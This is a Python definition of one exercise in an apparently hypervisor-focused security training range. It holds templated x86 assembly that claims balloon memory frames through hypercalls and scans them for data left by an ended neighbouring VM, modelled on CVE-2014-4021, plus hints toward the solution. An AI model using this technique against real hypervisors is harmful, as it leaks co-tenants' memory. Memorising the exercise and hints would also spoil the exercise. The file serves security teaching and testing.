"""Frames that are handed on with what their last owner has left in them."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

UNCLEARED_FRAMES = Attack(
    id="uncleared_frames",
    title=said("frames that are not cleared"),
    code="""
    mov rcx, {pages}
    mov rsi, {memory_bytes}
    mov rbx, {mark}
grow:
    mov rax, {call_balloon_claim}
    mov rdi, rcx                ; the page that shall get a frame
    vmcall
    cmp [rsi], rbx
    je found
    add rsi, {page_bytes}
    inc rcx
    cmp rcx, {most_pages}
    jb grow
    jmp end
found:
    mov rax, {call_report}
    mov rdi, [rsi + 8]
    vmcall
end:
""",
    placement=Placement(victim="ended"),
    family="V4",
    number=16,
    like="CVE-2014-4021 (XSA-100)",
    hints=(
        said("Where does new memory come from?"),
        said("The machine beside yours has just ended, and its frames are free."),
        said("Claim a frame for each page up to most_pages, and look for the mark before you write anything."),
    ),
)
"""Lets its memory grow, and reads what it gets before it writes."""
